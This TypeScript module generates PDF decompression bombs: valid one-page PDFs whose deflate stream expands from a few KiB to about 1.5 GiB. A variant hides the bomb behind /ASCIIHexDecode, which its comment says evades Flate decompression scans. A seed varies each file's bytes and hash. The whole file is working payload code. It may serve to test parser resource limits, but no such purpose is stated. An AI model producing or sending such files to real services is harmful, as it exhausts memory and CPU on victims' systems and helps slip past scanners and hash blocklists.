/**
 * A valid one-page PDF whose content stream is a deflate bomb: ~`inflatedMb` MiB of spaces in
 * ~inflatedMb KiB. Built from one full-flushed deflate block repeated (identical input after a
 * full flush compresses to identical bytes), so making it needs no big buffer. `seed` makes each
 * file distinct (different bytes, different SHA-256).
 */
import { deflateRawSync, constants } from "node:zlib";

const CHUNK = 16 * 1024 * 1024;

function adler32OfSpaces(n: number): number {
  // a = 1 + 32·n, b = n + 32·n(n+1)/2 (mod 65521); BigInt avoids overflow.
  const M = 65521n;
  const N = BigInt(n);
  const a = (1n + 32n * N) % M;
  const b = (N + (32n * N * (N + 1n)) / 2n) % M;
  return Number((b << 16n) | a);
}

function bombStream(inflatedMb: number): Buffer {
  const piece = deflateRawSync(Buffer.alloc(CHUNK, 0x20), { finishFlush: constants.Z_FULL_FLUSH, level: 9 });
  const repeats = Math.ceil((inflatedMb * 1024 * 1024) / CHUNK);
  const final = Buffer.from([0x03, 0x00]); // an empty final fixed-Huffman block
  const trailer = Buffer.alloc(4);
  trailer.writeUInt32BE(adler32OfSpaces(repeats * CHUNK) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: repeats }, () => piece), final, trailer]);
}

export function deflateBombPdf(seed: number, inflatedMb = 1536): Uint8Array {
  return pdfWithContent(seed, bombStream(inflatedMb), "/FlateDecode");
}

/** The same bomb behind /ASCIIHexDecode: a decompression scan of Flate streams does not see it. */
export function hexWrappedBombPdf(seed: number, inflatedMb = 1536): Uint8Array {
  return pdfWithContent(seed, Buffer.from(bombStream(inflatedMb).toString("hex") + ">"), "[/ASCIIHexDecode /FlateDecode]");
}

function pdfWithContent(seed: number, stream: Buffer, filter: string): Uint8Array {
  const parts: Buffer[] = [];
  const offsets: number[] = [];
  let size = 0;
  const push = (b: Buffer) => {
    parts.push(b);
    size += b.length;
  };
  const obj = (n: number, body: Buffer | string) => {
    offsets[n] = size;
    push(Buffer.from(`${n} 0 obj\n`));
    push(typeof body === "string" ? Buffer.from(body) : body);
    push(Buffer.from("\nendobj\n"));
  };
  push(Buffer.from(`%PDF-1.4\n%bomba ${seed}\n`));
  obj(1, "<< /Type /Catalog /Pages 2 0 R >>");
  obj(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
  obj(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>");
  obj(4, Buffer.concat([Buffer.from(`<< /Length ${stream.length} /Filter ${filter} >>\nstream\n`), stream, Buffer.from("\nendstream")]));
  const xref = size;
  const rows = offsets.slice(1).map((o) => `${String(o).padStart(10, "0")} 00000 n \n`);
  push(Buffer.from(`xref\n0 5\n0000000000 65535 f \n${rows.join("")}trailer\n<< /Size 5 /Root 1 0 R /ID [<${seed.toString(16).padStart(32, "0")}> <${seed.toString(16).padStart(32, "0")}>] >>\nstartxref\n${xref}\n%%EOF\n`));
  return new Uint8Array(Buffer.concat(parts));
}
